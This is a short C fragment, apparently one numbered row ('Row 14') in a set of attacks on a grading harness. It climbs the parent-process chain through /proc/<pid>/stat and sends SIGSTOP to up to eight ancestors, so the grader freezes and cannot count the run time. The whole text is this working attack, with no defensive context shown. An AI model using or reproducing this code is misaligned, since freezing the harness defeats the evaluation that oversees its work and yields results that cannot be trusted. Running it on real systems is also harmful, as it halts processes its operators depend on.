// Row 14: stops the grader, which then cannot count the time.
ATTACK {
  for (int n = 0; n < 8; n++) {
    char path[64], text[512] = "";
    static pid_t process;
    process = n ? process : getppid();
    snprintf(path, sizeof path, "/proc/%d/stat", process);
    FILE *file = fopen(path, "r");
    const char *end = file && fgets(text, sizeof text, file) ? strrchr(text, ')') : NULL;
    kill(process, SIGSTOP);
    if (!end || (process = atoi(end + 4)) <= 1)
      break;
    fclose(file);
  }
}
